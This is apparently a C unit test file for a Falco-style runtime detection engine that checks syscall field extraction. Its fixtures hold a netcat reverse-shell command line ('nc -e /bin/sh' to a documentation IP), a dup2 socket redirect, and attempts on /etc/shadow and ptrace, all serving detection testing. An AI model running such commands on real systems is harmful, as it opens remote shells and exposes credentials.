/* SPDX-License-Identifier: MIT */
/*
 * The syscall fields (rt-fields*.c) over events the state engine has seen:
 * ancestry, command lines, rendered arguments, descriptors and socket ends,
 * users and containers, missing values; and the table itself (every field
 * the default Falco rules use is there, with a description).
 */
#include <inttypes.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <cmocka.h>

#include "core/util.h"
#include "rt-test-events.h"
#include "rt-test-fields.h"
#include "runtime/rt-fields.h"
#include "runtime/rt-state.h"

#define PROC_ROOT "tests/runtime/proc"
#define T0        1700000100000000000ull

static struct rt_state *boot(void)
{
	struct rt_state_opts o = {.proc_root = PROC_ROOT};
	struct rt_state *s = rt_state_new(&o);

	assert_int_equal(rt_state_bootstrap(s, NULL), 0);
	rt_state_set_hostname(s, "node-1");
	return s;
}

static void apply(struct rt_state *s, struct rt_event *ev)
{
	rt_state_apply(s, ev);
}

/* bash (100) runs sh -c, which runs nc: systemd > bash > sh > nc. */
static void spawn(struct rt_state *s, int64_t parent, int64_t child, const char *comm,
                  const char *exe, const char *args, size_t args_len, uint64_t ts)
{
	struct rt_event c = tev(RT_EV_CLONE, parent, parent, child, ts);
	struct rt_event e = tev(RT_EV_EXECVE, child, child, 0, ts + 1000);

	tev_uint(&c, "flags", 0x01200011, RT_FLAGS_CLONE);
	apply(s, &c);
	tev_str(&e, "exe", exe);
	tev_list(&e, "args", args, args_len);
	tev_str(&e, "comm", comm);
	tev_str(&e, "filename", exe);
	tev_uint(&e, "flags", RT_EXE_WRITABLE, RT_FLAGS_EXECVE);
	apply(s, &e);
}

static void test_process(void **state)
{
	struct rt_state *s = boot();
	struct rt_event e, none;

	(void)state;
	spawn(s, 100, 400, "sh", "/bin/sh", "-c\0nc -e /bin/sh 198.51.100.1 4444\0", 35, T0);
	spawn(s, 400, 401, "nc", "nc",
	      "-e\0/bin/sh\0"
	      "198.51.100.1\0"
	      "4444\0",
	      29, T0 + 5000);
	rt_state_set_user_name(s, 4026531841ull, 1000, "alice");
	rt_state_set_group_name(s, 4026531841ull, 1000, "alice");
	e = tev(RT_EV_EXECVE, 401, 401, 0, T0 + 6000000000ull);
	tev_str(&e, "exe", "nc");
	tev_list(&e, "args",
	         "-e\0/bin/sh\0"
	         "198.51.100.1\0"
	         "4444\0",
	         29);
	tev_str(&e, "comm", "nc");
	tev_str(&e, "filename", "/usr/bin/nc.openbsd");
	tev_uint(&e, "flags", RT_EXE_WRITABLE | RT_EXE_UPPER_LAYER, RT_FLAGS_EXECVE);
	apply(s, &e);

	assert_string_equal(S(&e, "proc.name"), "nc");
	assert_string_equal(S(&e, "proc.exe"), "nc");
	assert_string_equal(S(&e, "proc.exepath"), "/usr/bin/nc.openbsd");
	assert_string_equal(S(&e, "proc.args"), "-e /bin/sh 198.51.100.1 4444");
	assert_string_equal(S(&e, "proc.cmdline"), "nc -e /bin/sh 198.51.100.1 4444");
	assert_string_equal(S(&e, "proc.exeline"), "nc -e /bin/sh 198.51.100.1 4444");
	assert_string_equal(S(&e, "proc.cmdnargs"), "4");
	assert_string_equal(S(&e, "proc.cmdlenargs"), "25");
	assert_string_equal(S(&e, "proc.pname"), "sh");
	assert_string_equal(S(&e, "proc.pexe"), "/bin/sh");
	assert_string_equal(S(&e, "proc.pexepath"), "/bin/sh");
	assert_string_equal(S(&e, "proc.pcmdline"), "sh -c nc -e /bin/sh 198.51.100.1 4444");
	assert_string_equal(S(&e, "proc.aname[0]"), "nc");
	assert_string_equal(S(&e, "proc.aname[1]"), "sh");
	assert_string_equal(S(&e, "proc.aname[2]"), "bash");
	assert_string_equal(S(&e, "proc.aname[3]"), "systemd");
	assert_string_equal(S(&e, "proc.aname[4]"), "<NA>");
	assert_string_equal(S(&e, "proc.aname[999999]"), "<NA>");
	/* Without an index: every ancestor, not the process itself. */
	assert_string_equal(S(&e, "proc.aname"), "sh|bash|systemd");
	assert_string_equal(S(&e, "proc.apid"), "400|100|1");
	assert_string_equal(S(&e, "proc.apid[2]"), "100");
	assert_string_equal(S(&e, "proc.aexepath[2]"), "/usr/bin/bash");
	assert_string_equal(S(&e, "proc.aexe[3]"), "/sbin/init");
	assert_string_equal(S(&e, "proc.acmdline[3]"), "systemd splash");
	assert_string_equal(S(&e, "proc.pid"), "401");
	assert_string_equal(S(&e, "proc.ppid"), "400");
	assert_string_equal(S(&e, "thread.tid"), "401");
	assert_string_equal(S(&e, "thread.ismain"), "true");
	assert_string_equal(S(&e, "proc.vpid"), "<NA>");
	assert_string_equal(S(&e, "proc.cwd"), "/home/alice/");
	assert_string_equal(S(&e, "proc.tty"), "34816");
	/* The session is bash's (100); the oldest shell among the ancestors is bash too. */
	assert_string_equal(S(&e, "proc.sname"), "bash");
	assert_string_equal(S(&e, "proc.loginshellid"), "100");
	assert_string_equal(S(&e, "proc.duration"), "5999995000");
	assert_string_equal(S(&e, "proc.pid.ts"), "1700000100000005000");
	assert_string_equal(S(&e, "proc.is_exe_upper_layer"), "true");
	assert_string_equal(S(&e, "proc.is_exe_writable"), "true");
	assert_string_equal(S(&e, "proc.is_exe_from_memfd"), "false");
	assert_string_equal(S(&e, "evt.arg.flags"), "EXE_WRITABLE|EXE_UPPER_LAYER");
	assert_string_equal(S(&e, "evt.rawarg.flags"), "3");
	assert_string_equal(S(&e, "evt.arg[0]"), "nc");
	assert_string_equal(S(&e, "evt.arg[1]"), "-e./bin/sh.198.51.100.1.4444.");
	assert_string_equal(S(&e, "evt.arg[99]"), "<NA>");
	assert_string_equal(S(&e, "evt.arg.nope"), "<NA>");
	assert_string_equal(S(&e, "user.uid"), "1000");
	assert_string_equal(S(&e, "user.name"), "alice");
	assert_string_equal(S(&e, "user.loginuid"), "1000");
	assert_string_equal(S(&e, "user.loginname"), "alice");
	assert_string_equal(S(&e, "group.gid"), "1000");
	assert_string_equal(S(&e, "group.name"), "alice");
	assert_string_equal(S(&e, "container.id"), "host");
	assert_string_equal(S(&e, "container.name"), "host");
	assert_string_equal(S(&e, "container.image.repository"), "<NA>");
	assert_string_equal(S(&e, "container.start_ts"), "<NA>");
	assert_string_equal(S(&e, "evt.type"), "execve");
	assert_string_equal(S(&e, "syscall.type"), "execve");
	assert_string_equal(S(&e, "evt.category"), "process");
	assert_string_equal(S(&e, "evt.num"), "5");
	assert_string_equal(S(&e, "evt.res"), "SUCCESS");
	assert_string_equal(S(&e, "evt.rawres"), "0");
	assert_string_equal(S(&e, "evt.failed"), "false");
	assert_string_equal(S(&e, "evt.dir"), "<");
	assert_string_equal(S(&e, "evt.hostname"), "node-1");
	assert_string_equal(S(&e, "evt.source"), "syscall");
	assert_string_equal(S(&e, "evt.rawtime"), "1700000106000000000");
	assert_string_equal(S(&e, "evt.time.iso8601"), "2023-11-14T22:15:06.000000000Z");
	/* fd.* has nothing to say of an exec. */
	assert_string_equal(S(&e, "fd.name"), "<NA>");
	assert_string_equal(S(&e, "fd.num"), "<NA>");
	assert_string_equal(S(&e, "fd.typechar"), "<NA>");

	/* An event whose thread the engine does not know: process fields are missing. */
	none = tev(RT_EV_OPEN, 999, 999, 3, T0);
	none.state = s;
	assert_string_equal(S(&none, "proc.name"), "<NA>");
	assert_string_equal(S(&none, "proc.aname[1]"), "<NA>");
	assert_string_equal(S(&none, "proc.aname"), "<NA>");
	assert_string_equal(S(&none, "user.name"), "<NA>");
	assert_string_equal(S(&none, "container.id"), "<NA>");
	assert_string_equal(S(&none, "thread.tid"), "999");
	rt_state_free(s);
}

static void test_files(void **state)
{
	struct rt_state *s = boot();
	struct rt_event e;

	(void)state;
	e = tev(RT_EV_OPENAT, 100, 100, 9, T0);
	tev_int(&e, "fd", 9, RT_FLAGS_FD);
	tev_int(&e, "dirfd", RT_AT_FDCWD, RT_FLAGS_FD);
	tev_str(&e, "name", "../alice/.bash_history");
	tev_uint(&e, "flags", 01 | 0100 | 01000, RT_FLAGS_OPEN);
	tev_uint(&e, "mode", 0644, RT_FLAGS_FILE_MODE);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.arg.flags"), "O_TRUNC|O_CREAT|O_WRONLY");
	assert_string_equal(S(&e, "evt.arg[flags]"), "O_TRUNC|O_CREAT|O_WRONLY");
	assert_string_equal(S(&e, "evt.arg.mode"), "0644");
	assert_string_equal(S(&e, "evt.arg.dirfd"), "AT_FDCWD");
	assert_string_equal(S(&e, "evt.arg.fd"), "<f>/home/alice/.bash_history");
	/* A relative path reads resolved, as Falco's PT_FSRELPATH. */
	assert_string_equal(S(&e, "evt.arg.name"), "/home/alice/.bash_history");
	assert_string_equal(S(&e, "evt.abspath"), "/home/alice/.bash_history");
	assert_string_equal(S(&e, "evt.args"),
	                    "fd=9(<f>/home/alice/.bash_history) dirfd=-100(AT_FDCWD) "
	                    "name=../alice/.bash_history(/home/alice/.bash_history) "
	                    "flags=577(O_TRUNC|O_CREAT|O_WRONLY) mode=0644");
	assert_string_equal(S(&e, "evt.is_open_write"), "true");
	assert_string_equal(S(&e, "evt.is_open_read"), "false");
	assert_string_equal(S(&e, "evt.is_open_exec"), "false");
	assert_string_equal(S(&e, "fd.name"), "/home/alice/.bash_history");
	assert_string_equal(S(&e, "fd.nameraw"), "../alice/.bash_history");
	assert_string_equal(S(&e, "fd.directory"), "/home/alice");
	assert_string_equal(S(&e, "fd.filename"), ".bash_history");
	assert_string_equal(S(&e, "fd.num"), "9");
	assert_string_equal(S(&e, "fd.type"), "file");
	assert_string_equal(S(&e, "fd.typechar"), "f");
	assert_string_equal(S(&e, "fd.connected"), "false");
	assert_string_equal(S(&e, "fd.l4proto"), "<NA>");
	assert_string_equal(S(&e, "fd.sip"), "<NA>");
	assert_string_equal(S(&e, "fd.containername"), "host:/home/alice/.bash_history");
	assert_string_equal(S(&e, "fd.containerdirectory"), "host:/home/alice");
	assert_string_equal(S(&e, "proc.fdopencount"), "8");

	/* A failed open: no descriptor, but the name it asked for; fd.num -1. */
	e = tev(RT_EV_OPENAT, 100, 100, -2, T0);
	tev_int(&e, "fd", -2, RT_FLAGS_FD);
	tev_int(&e, "dirfd", RT_AT_FDCWD, RT_FLAGS_FD);
	tev_str(&e, "name", "/etc/../etc/shadow");
	tev_uint(&e, "flags", 0, RT_FLAGS_OPEN);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.res"), "ENOENT");
	assert_string_equal(S(&e, "evt.rawres"), "-2");
	assert_string_equal(S(&e, "evt.failed"), "true");
	assert_string_equal(S(&e, "evt.arg.fd"), "ENOENT");
	assert_string_equal(S(&e, "evt.arg.name"), "/etc/../etc/shadow");
	assert_string_equal(S(&e, "fd.num"), "-1");
	assert_string_equal(S(&e, "fd.name"), "/etc/shadow");
	assert_string_equal(S(&e, "fd.nameraw"), "/etc/../etc/shadow");
	assert_string_equal(S(&e, "fd.directory"), "/etc");
	assert_string_equal(S(&e, "fd.typechar"), "f");
	assert_string_equal(S(&e, "fd.type"), "<NA>");
	assert_string_equal(S(&e, "fd.filename"), "<NA>");
	assert_string_equal(S(&e, "evt.is_open_read"), "true");

	/* creat with an execute bit; an unknown errno reads as its number. */
	e = tev(RT_EV_CREAT, 100, 100, -4095, T0);
	tev_str(&e, "name", "/tmp/x");
	tev_uint(&e, "mode", 0755, RT_FLAGS_FILE_MODE);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.is_open_exec"), "true");
	assert_string_equal(S(&e, "evt.res"), "-4095");

	/* symlinkat's target is text; linkat's relative oldpath resolves against olddir. */
	e = tev(RT_EV_SYMLINKAT, 100, 100, 0, T0);
	tev_str(&e, "target", "../../etc");
	tev_int(&e, "linkdirfd", RT_AT_FDCWD, RT_FLAGS_FD);
	tev_str(&e, "linkpath", "etc_link");
	apply(s, &e);
	assert_string_equal(S(&e, "evt.arg.target"), "../../etc");
	assert_string_equal(S(&e, "evt.arg.linkpath"), "/home/alice/etc_link");
	e = tev(RT_EV_LINKAT, 100, 100, 0, T0);
	tev_int(&e, "olddir", RT_AT_FDCWD, RT_FLAGS_FD);
	tev_str(&e, "oldpath", "../../etc/shadow");
	tev_int(&e, "newdir", RT_AT_FDCWD, RT_FLAGS_FD);
	tev_str(&e, "newpath", "sh");
	tev_uint(&e, "flags", 0x400, RT_FLAGS_AT);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.arg.oldpath"), "/etc/shadow");
	assert_string_equal(S(&e, "evt.abspath.src"), "/etc/shadow");
	assert_string_equal(S(&e, "evt.abspath.dst"), "/home/alice/sh");
	assert_string_equal(S(&e, "evt.arg.flags"), "AT_SYMLINK_FOLLOW");
	assert_string_equal(S(&e, "fd.name"), "<NA>");

	/* ptrace and a kernel module. */
	e = tev(RT_EV_PTRACE, 100, 100, 0, T0);
	tev_uint(&e, "request", 16, RT_FLAGS_PTRACE_REQ);
	tev_int(&e, "pid", 1, RT_FLAGS_NONE);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.arg.request"), "PTRACE_ATTACH");
	assert_string_equal(S(&e, "evt.args"), "request=16(PTRACE_ATTACH) pid=1");
	rt_state_free(s);
}

/* fd.type of descriptor fd of process pid, "<NA>" when it has none. */
static const char *fd_type_of(const struct rt_state *s, int64_t pid, int64_t fd)
{
	const struct rt_thread *t = rt_state_thread(s, pid);
	const struct rt_fd *f = t ? rt_state_fd(s, t, fd) : NULL;

	return f ? rt_fdtype_name(f->type) : "<NA>";
}

static void test_sockets(void **state)
{
	struct rt_state *s = boot();
	struct rt_event e;

	(void)state;
	e = tev(RT_EV_SOCKET, 100, 100, 20, T0);
	tev_uint(&e, "domain", 17, RT_FLAGS_SOCK_DOMAIN);
	tev_uint(&e, "type", 3, RT_FLAGS_SOCK_TYPE);
	tev_uint(&e, "proto", 768, RT_FLAGS_NONE);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.arg.domain"), "AF_PACKET");
	assert_string_equal(S(&e, "fd.type"), "unknown");
	assert_string_equal(S(&e, "fd.typechar"), "o");
	assert_string_equal(S(&e, "fd.name"), "");

	e = tev(RT_EV_SOCKET, 100, 100, 21, T0);
	tev_uint(&e, "domain", 2, RT_FLAGS_SOCK_DOMAIN);
	tev_uint(&e, "type", 1, RT_FLAGS_SOCK_TYPE);
	apply(s, &e);
	e = tev(RT_EV_CONNECT, 100, 100, 0, T0);
	tev_int(&e, "fd", 21, RT_FLAGS_FD);
	tev_tuple(&e, "tuple", "10.0.0.5", 51000, "198.51.100.7", 443, 6);
	apply(s, &e);
	assert_string_equal(S(&e, "fd.name"), "10.0.0.5:51000->198.51.100.7:443");
	assert_string_equal(S(&e, "fd.typechar"), "4");
	assert_string_equal(S(&e, "fd.type"), "ipv4");
	assert_string_equal(S(&e, "fd.l4proto"), "tcp");
	assert_string_equal(S(&e, "fd.sockfamily"), "ip");
	assert_string_equal(S(&e, "fd.cip"), "10.0.0.5");
	assert_string_equal(S(&e, "fd.sip"), "198.51.100.7");
	assert_string_equal(S(&e, "fd.lip"), "10.0.0.5");
	assert_string_equal(S(&e, "fd.rip"), "198.51.100.7");
	assert_string_equal(S(&e, "fd.cport"), "51000");
	assert_string_equal(S(&e, "fd.sport"), "443");
	assert_string_equal(S(&e, "fd.lport"), "51000");
	assert_string_equal(S(&e, "fd.rport"), "443");
	assert_string_equal(S(&e, "fd.ip"), "10.0.0.5|198.51.100.7");
	assert_string_equal(S(&e, "fd.port"), "51000|443");
	assert_string_equal(S(&e, "fd.net"), "10.0.0.5/32|198.51.100.7/32");
	assert_string_equal(S(&e, "fd.snet"), "198.51.100.7/32");
	assert_string_equal(S(&e, "fd.connected"), "true");
	assert_string_equal(S(&e, "fd.name_changed"), "true");
	assert_string_equal(S(&e, "fd.is_server"), "false");
	assert_string_equal(S(&e, "fd.sip.name"), "<NA>");
	assert_string_equal(S(&e, "fd.num"), "21");
	assert_string_equal(S(&e, "evt.arg.tuple"), "10.0.0.5:51000->198.51.100.7:443");
	assert_string_equal(S(&e, "evt.arg.fd"), "<4t>10.0.0.5:51000->198.51.100.7:443");
	assert_string_equal(S(&e, "evt.category"), "net");
	/* The redirect of a reverse shell: dup2(socket, 1). */
	e = tev(RT_EV_DUP2, 100, 100, 1, T0);
	tev_int(&e, "res", 1, RT_FLAGS_FD);
	tev_int(&e, "oldfd", 21, RT_FLAGS_FD);
	tev_int(&e, "newfd", 1, RT_FLAGS_FD);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.rawres"), "1");
	assert_string_equal(S(&e, "fd.type"), "ipv4");
	assert_string_equal(S(&e, "fd.num"), "1");
	assert_string_equal(S(&e, "fd.name_changed"), "false");
	assert_string_equal(S(&e, "fd.types[1]"), "ipv4");
	assert_string_equal(S(&e, "fd.types"), "unknown|file|ipv4|unix|pipe|eventpoll");
	/* What the process's standard descriptors are now: stdout is the socket. */
	assert_string_equal(S(&e, "proc.stdout.type"), "ipv4");
	assert_string_equal(S(&e, "proc.stdout.name"), "10.0.0.5:51000->198.51.100.7:443");
	assert_string_equal(S(&e, "proc.stdin.type"), fd_type_of(s, 100, 0));
	assert_string_equal(S(&e, "proc.stderr.type"), fd_type_of(s, 100, 2));
	/* A failed connect names what it tried. */
	e = tev(RT_EV_CONNECT, 100, 100, -111, T0);
	tev_int(&e, "fd", 22, RT_FLAGS_FD);
	tev_tuple(&e, "tuple", "10.0.0.5", 51001, "198.51.100.8", 80, 6);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.res"), "ECONNREFUSED");
	assert_string_equal(S(&e, "fd.name"), "10.0.0.5:51001->198.51.100.8:80");
	assert_string_equal(S(&e, "fd.sip"), "<NA>");
	/* The bound listener of nginx (from /proc): a server end only. */
	e = tev(RT_EV_LISTEN, 200, 200, 0, T0);
	tev_int(&e, "fd", 6, RT_FLAGS_FD);
	apply(s, &e);
	assert_string_equal(S(&e, "fd.sip"), "0.0.0.0");
	assert_string_equal(S(&e, "fd.sport"), "80");
	assert_string_equal(S(&e, "fd.lport"), "<NA>");
	assert_string_equal(S(&e, "fd.cip"), "<NA>");
	assert_string_equal(S(&e, "fd.is_server"), "true");
	assert_string_equal(S(&e, "fd.name"), "0.0.0.0:80");
	rt_state_free(s);
}

static void test_container(void **state)
{
	struct rt_state *s = boot();
	struct rt_event e = tev(RT_EV_OPEN, 201, 200, 12, T0);
	struct rt_ctrmeta m = {.name = "web",
	                       .image = "docker.io/library/nginx:1.25",
	                       .image_repository = "docker.io/library/nginx",
	                       .image_tag = "1.25",
	                       .image_digest = "",
	                       .k8s_ns = "shop",
	                       .k8s_pod = "web-7d9",
	                       .privileged = 0};

	(void)state;
	tev_str(&e, "name", "/etc/nginx/nginx.conf");
	apply(s, &e);
	assert_string_equal(S(&e, "container.id"), "3f4e5d6c7b8a");
	assert_string_equal(S(&e, "container.full_id"),
	                    "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899");
	assert_string_equal(S(&e, "container.type"), "docker");
	/* Metadata not known yet: no value (outputs show <NA>). */
	assert_string_equal(S(&e, "container.name"), "<NA>");
	assert_string_equal(S(&e, "container.privileged"), "<NA>");
	assert_string_equal(S(&e, "k8s.ns.name"), "<NA>");
	rt_state_set_ctrmeta(s, "3f4e5d6c7b8a", &m);
	assert_string_equal(S(&e, "container.name"), "web");
	assert_string_equal(S(&e, "container.image"), "docker.io/library/nginx:1.25");
	assert_string_equal(S(&e, "container.image.repository"), "docker.io/library/nginx");
	assert_string_equal(S(&e, "container.image.tag"), "1.25");
	assert_string_equal(S(&e, "container.image.digest"), "<NA>");
	assert_string_equal(S(&e, "container.privileged"), "false");
	assert_string_equal(S(&e, "k8s.ns.name"), "shop");
	assert_string_equal(S(&e, "k8s.pod.name"), "web-7d9");
	assert_string_equal(S(&e, "fd.containername"), "3f4e5d6c7b8a:/etc/nginx/nginx.conf");
	/* A thread of the container: its own name and tid, the process's everything else. */
	assert_string_equal(S(&e, "proc.name"), "nginx-worker");
	assert_string_equal(S(&e, "thread.tid"), "201");
	assert_string_equal(S(&e, "thread.vtid"), "7");
	assert_string_equal(S(&e, "thread.ismain"), "false");
	assert_string_equal(S(&e, "proc.vpid"), "1");
	assert_string_equal(S(&e, "proc.aname[0]"), "nginx");
	assert_string_equal(S(&e, "proc.aname[1]"), "bash");
	assert_string_equal(S(&e, "proc.pname"), "bash");
	assert_string_equal(S(&e, "proc.pidns"), "4026532200");
	assert_string_equal(
	    S(&e, "thread.cap_effective"),
	    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
	    "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT "
	    "CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP");
	assert_string_equal(S(&e, "thread.cap_inheritable"), "");
	assert_string_equal(
	    S(&e, "thread.cgroup.memory"),
	    "/docker/3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899");
	assert_string_equal(S(&e, "thread.cgroup.cpu"), "<NA>");
	assert_string_equal(S(&e, "user.uid"), "0");
	assert_string_equal(S(&e, "user.loginuid"), "-1");
	assert_string_equal(S(&e, "user.loginname"), "<NA>");
	rt_state_free(s);
}

static void test_env(void **state)
{
	struct rt_state *s = boot();
	struct rt_event e = tev(RT_EV_READ, 100, 100, 0, T0);

	(void)state;
	tev_int(&e, "fd", 0, RT_FLAGS_FD);
	apply(s, &e);
	assert_string_equal(S(&e, "proc.env"), "HOME=/home/alice TERM=xterm");
	assert_string_equal(S(&e, "proc.env[TERM]"), "xterm");
	assert_string_equal(S(&e, "proc.env[TER]"), "<NA>");
	assert_string_equal(S(&e, "evt.is_io_read"), "true");
	assert_string_equal(S(&e, "evt.io_dir"), "read");
	assert_string_equal(S(&e, "evt.buflen"), "0");
	assert_string_equal(S(&e, "evt.category"), "file");
	assert_string_equal(S(&e, "fd.name"), "/dev/pts/0");
	rt_state_free(s);
}

/* The fields not read above, each with a value it must have. */
static void test_more(void **state)
{
	struct rt_state *s = boot();
	struct rt_event e;

	(void)state;
	/* An exec in the container, after its pid namespace started and a file changed. */
	e = tev(RT_EV_CLONE, 200, 200, 210, T0);
	tev_uint(&e, "flags", 0x01200011, RT_FLAGS_CLONE);
	apply(s, &e);
	e = tev(RT_EV_EXECVE, 210, 210, 0, T0 + 100);
	tev_str(&e, "exe", "./x");
	tev_str(&e, "comm", "x");
	tev_uint(&e, "pidns_init_start_ts", T0 - 1000000, RT_FLAGS_NONE);
	tev_uint(&e, "exe_ino_ctime", T0 - 500, RT_FLAGS_NONE);
	tev_uint(&e, "exe_ino_mtime", T0 - 600, RT_FLAGS_NONE);
	tev_uint(&e, "exe_ino", 77, RT_FLAGS_NONE);
	tev_uint(&e, "loginuid", 0xffffffffu, RT_FLAGS_NONE);
	tev_int(&e, "vpgid", 210, RT_FLAGS_NONE);
	apply(s, &e);
	assert_string_equal(S(&e, "proc.exe_ino"), "77");
	assert_string_equal(S(&e, "proc.exe_ino.ctime"), "1700000099999999500");
	assert_string_equal(S(&e, "proc.exe_ino.mtime"), "1700000099999999400");
	assert_string_equal(S(&e, "proc.exe_ino.ctime_duration_proc_start"), "500");
	assert_string_equal(S(&e, "proc.exe_ino.ctime_duration_pidns_start"), "999500");
	assert_string_equal(S(&e, "proc.pidns_init_start_ts"), "1700000099999000000");
	assert_string_equal(S(&e, "container.start_ts"), "1700000099999000000");
	assert_string_equal(S(&e, "proc.exepath"), "/x");
	assert_string_equal(S(&e, "proc.is_vpgid_leader"), "true");
	assert_string_equal(S(&e, "proc.is_sid_leader"), "false");
	assert_string_equal(S(&e, "proc.vpgid.name"), "x");
	assert_string_equal(S(&e, "proc.sid"), "100");
	assert_string_equal(S(&e, "proc.sname"), "bash");
	assert_string_equal(S(&e, "proc.sid.exe"), "-bash");
	assert_string_equal(S(&e, "proc.sid.exepath"), "/usr/bin/bash");
	assert_string_equal(S(&e, "proc.vpgid.exe"), "./x");
	assert_string_equal(S(&e, "proc.vpgid.exepath"), "/x");
	/* The parent (nginx, from /proc) started 900 clock ticks after boot. */
	assert_int_equal(strtoull(S(&e, "proc.ppid.duration"), NULL, 10),
	                 T0 + 100 - 1700000000000000000ull -
	                     900ull * (1000000000ull / sysconf(_SC_CLK_TCK)));
	assert_string_equal(S(&e, "proc.nthreads"), "1");
	assert_string_equal(S(&e, "proc.mntns"), "4026532201");
	assert_string_equal(S(&e, "proc.pvpid"), "1");
	assert_string_equal(S(&e, "thread.nametid"), "x210");
	assert_string_equal(
	    S(&e, "thread.cgroups"),
	    "memory=/docker/3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899 "
	    "unified=/system.slice/"
	    "docker-3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899.scope");
	assert_string_equal(S(&e, "evt.datetime"), "2023-11-14 22:15:00.000000100");
	assert_string_equal(S(&e, "evt.time"), "22:15:00.000000100");
	assert_string_equal(S(&e, "evt.time.s"), "22:15:00");
	assert_string_equal(S(&e, "evt.rawtime.s"), "1700000100");
	assert_string_equal(S(&e, "evt.rawtime.ns"), "100");
	assert_string_equal(S(&e, "evt.count"), "1");
	assert_string_equal(S(&e, "evt.cpu"), "0");
	assert_string_equal(S(&e, "evt.is_io"), "false");
	assert_string_equal(S(&e, "evt.io_dir"), "<NA>");

	/* A write on a socket of bash: I/O fields and the socket's ends. */
	e = tev(RT_EV_WRITE, 100, 100, 42, T0 + 200);
	tev_int(&e, "fd", 3, RT_FLAGS_FD);
	{
		struct rt_arg *a = tev_arg(&e, "data", RT_ARG_BYTES);

		a->str = "GET /";
		a->len = 5;
	}
	apply(s, &e);
	assert_string_equal(S(&e, "evt.is_io_write"), "true");
	assert_string_equal(S(&e, "evt.io_dir"), "write");
	assert_string_equal(S(&e, "evt.buflen"), "42");
	assert_string_equal(S(&e, "evt.buffer"), "GET /");
	assert_string_equal(S(&e, "evt.category"), "net");
	assert_string_equal(S(&e, "fd.uid"), "1003");
	assert_string_equal(S(&e, "fd.ino"), "5000");
	assert_string_equal(S(&e, "fd.lnet"), "10.0.0.5/32");
	assert_string_equal(S(&e, "fd.rnet"), "93.184.216.34/32");
	assert_string_equal(S(&e, "fd.cnet"), "10.0.0.5/32");
	assert_string_equal(S(&e, "fd.sockfamily"), "ip");
	assert_string_equal(S(&e, "fd.cip.name"), "<NA>");
	assert_string_equal(S(&e, "evt.arg.data"), "GET /");
	assert_string_equal(S(&e, "evt.rawarg.data"), "<NA>");
	/* A unix socket has no IP ends. */
	e = tev(RT_EV_READ, 100, 100, 1, T0 + 300);
	tev_int(&e, "fd", 6, RT_FLAGS_FD);
	apply(s, &e);
	assert_string_equal(S(&e, "fd.sockfamily"), "unix");
	assert_string_equal(S(&e, "fd.typechar"), "u");
	assert_string_equal(S(&e, "fd.sip"), "<NA>");
	assert_string_equal(S(&e, "fd.l4proto"), "<NA>");
	assert_string_equal(S(&e, "fd.is_server"), "false");
	/* procexit: no result, no syscall name. */
	e = tev(RT_EV_PROCEXIT, 210, 210, 0, T0 + 400);
	apply(s, &e);
	assert_string_equal(S(&e, "evt.res"), "<NA>");
	assert_string_equal(S(&e, "evt.rawres"), "<NA>");
	assert_string_equal(S(&e, "evt.failed"), "<NA>");
	assert_string_equal(S(&e, "syscall.type"), "<NA>");
	assert_string_equal(S(&e, "evt.type"), "procexit");
	assert_string_equal(S(&e, "proc.name"), "x");
	rt_state_free(s);
}

/* Every field, on events of every kind, gives values of its own type and nothing past the ceilings.
 */
static void test_every_field(void **state)
{
	struct rt_state *s = boot();
	struct rt_field_arg args[4] = {{.has = false},
	                               {.has = true, .is_index = true, .index = 1},
	                               {.has = true, .key = "fd", .key_len = 2},
	                               {.has = true, .key = "memory", .key_len = 6}};
	static struct rt_values vs;

	(void)state;
	for (int t = RT_EV_NONE + 1; t < RT_EV_COUNT; t++) {
		struct rt_event e = tev((enum rt_evtype)t, t % 2 ? 100 : 201, t % 2 ? 100 : 200,
		                        t % 3 ? 3 : -13, T0 + (uint64_t)t);

		tev_int(&e, "fd", 3, RT_FLAGS_FD);
		tev_str(&e, "name", "rel/path");
		tev_uint(&e, "flags", 0101, RT_FLAGS_OPEN);
		tev_tuple(&e, "tuple", "10.1.1.1", 1, "10.1.1.2", 2, 6);
		apply(s, &e);
		for (size_t i = 0; i < rt_fields_syscall.n_defs; i++) {
			const struct rt_field_def *d = &rt_fields_syscall.defs[i];

			for (int a = 0; a < 4; a++) {
				if ((a == 0 && (d->flags & RT_FIELD_ARG_REQUIRED)) ||
				    (a > 0 &&
				     !(d->flags & (RT_FIELD_ARG_INDEX | RT_FIELD_ARG_KEY))))
					continue;
				rt_values_reset(&vs);
				d->extract(d, &args[a], &e, &vs);
				assert_true(vs.n <= RT_VALUES_MAX && vs.used <= RT_VALUES_BUF);
				if (vs.n > 1 && !(d->flags & RT_FIELD_MULTI))
					fail_msg("'%s' gave %zu values", d->name, vs.n);
				for (size_t k = 0; k < vs.n; k++)
					if (vs.v[k].type != d->type)
						fail_msg("'%s' gave a value of another type",
						         d->name);
			}
		}
	}
	rt_state_free(s);
}

/* The fields the default Falco rules use in conditions and outputs (reference/runtime.md §3.3,
 * §3.4). */
static const char *const falco_fields[] = {
    "proc.args",
    "proc.cmdline",
    "proc.name",
    "proc.aname",
    "proc.pname",
    "evt.type",
    "proc.pcmdline",
    "fd.name",
    "proc.pexe",
    "container.image.repository",
    "fd.typechar",
    "evt.arg",
    "fd.directory",
    "proc.exe",
    "fd.num",
    "thread.cap_effective",
    "evt.rawres",
    "evt.res",
    "fd.l4proto",
    "fd.nameraw",
    "proc.cwd",
    "user.name",
    "container.id",
    "container.privileged",
    "evt.is_open_read",
    "evt.is_open_write",
    "evt.num",
    "fd.connected",
    "fd.filename",
    "fd.ip",
    "fd.name_changed",
